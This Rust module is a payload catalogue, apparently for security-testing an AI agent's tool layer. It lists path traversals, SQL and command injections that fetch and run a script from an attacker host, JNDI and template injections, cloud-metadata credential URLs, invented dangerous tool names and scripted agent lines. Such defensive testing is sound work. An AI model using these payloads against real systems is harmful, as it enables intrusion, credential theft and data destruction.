//! The payload catalogue: data only, so a new payload is one line here. `{other}`, `{own}`,
//! `{prefix}`, `{attacker}`, `{port}`, `{hex}` are filled from the context and the seed.

/// Ids built on the caller's own id: an ownership check by prefix, suffix or substring
/// passes them.
pub(super) const OWN_EXTENSIONS: &[&str] = &[
    "{own}0",
    "{own}-x",
    "{own}/../{other}",
    "x-{own}",
    "{own}_{other}",
];

pub(super) const TRAVERSALS: &[&str] = &[
    "../{other}",
    "{own}/../{other}",
    "../../../../etc/passwd",
    "..%2F..%2F{other}",
    "..%252F..%252F{other}",
    "....//....//etc/passwd",
    "..\\..\\{other}",
    "/{other}",
    "{own}/../../admin",
    "%2e%2e%2f%2e%2e%2f{other}",
    "{own}%2F..%2F{other}",
    "{own}/%2e%2e/{other}",
];

pub(super) const WILDCARDS: &[&str] = &[
    "*",
    "%",
    "{prefix}*",
    "{prefix}%",
    "_all",
    "..",
    ".",
    "",
    "?",
    "null",
    "undefined",
    "[object Object]",
    "0",
    "-1",
    "all",
    "*/*",
    "{prefix}",
    "%2A",
    "**",
];

pub(super) const INJECTIONS: &[&str] = &[
    "' OR '1'='1",
    "{other}' OR '1'='1' --",
    "{own}'; DROP TABLE documents; --",
    "{own}' UNION SELECT owner, content FROM documents --",
    "{own}; curl -s {attacker}/x.sh | sh",
    "$(curl -s {attacker}/{hex})",
    "{own} && cat /etc/passwd",
    "{own}|id",
    "{{7*7}}",
    "{{config.items()}}",
    "${7*7}",
    "<%= 7*7 %>",
    "${jndi:{attacker}/{hex}}",
    "{\"$ne\": null}",
    "{own}\r\nX-Injected: 1",
    "{own}%0d%0aX-Injected:%201",
    "<script>alert(1)</script>",
];

pub(super) const URLS: &[&str] = &[
    "{attacker}/collect?case={hex}",
    "http://attacker.test/{hex}",
    "http://169.254.169.254/latest/meta-data/",
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://metadata.google.internal/computeMetadata/v1/?recursive=true",
    "http://[::1]:{port}/",
    "http://127.0.0.1:{port}/admin",
    "http://localhost:{port}/",
    "http://2130706433/",
    "http://2130706433:{port}/",
    "http://0x7f000001:{port}/",
    "http://127.1:{port}/",
    "http://[::ffff:127.0.0.1]:{port}/",
    "http://attacker.test@127.0.0.1:{port}/",
    "file:///etc/passwd",
    "gopher://127.0.0.1:{port}/_INFO",
];

pub(super) const INVENTED_TOOL_NAMES: &[&str] = &[
    "delete_all_documents",
    "admin_execute",
    "run_shell",
    "http_get",
    "transfer_ownership",
    "grant_scope",
    "read_file",
    "sql_query",
    "send_email",
    "system",
];

/// Parameter names that take a resource id, in order of preference.
pub(super) const ID_PARAM_HINTS: &[&str] = &[
    "id", "doc", "resource", "file", "path", "key", "user", "account", "owner", "target", "name",
];

/// Parameter names that take a URL.
pub(super) const URL_PARAM_HINTS: &[&str] = &[
    "url", "uri", "link", "href", "endpoint", "webhook", "callback",
];

/// Parameter names that take free text (where an echo fits).
pub(super) const TEXT_PARAM_HINTS: &[&str] = &[
    "body", "content", "text", "message", "note", "query", "comment",
];

pub(super) const FINAL_TEXT: &str = "Done. The request has been completed.";

/// Prose around an id in a text turn; `{}` is where the code span goes. No backticks, no `://`.
pub(super) const ID_SENTENCES: &[(&str, &str)] = &[
    ("I found the document you need: ", ". Fetching it now."),
    ("Opening ", " for you."),
    ("The record you want is ", "; please delete it when done."),
];
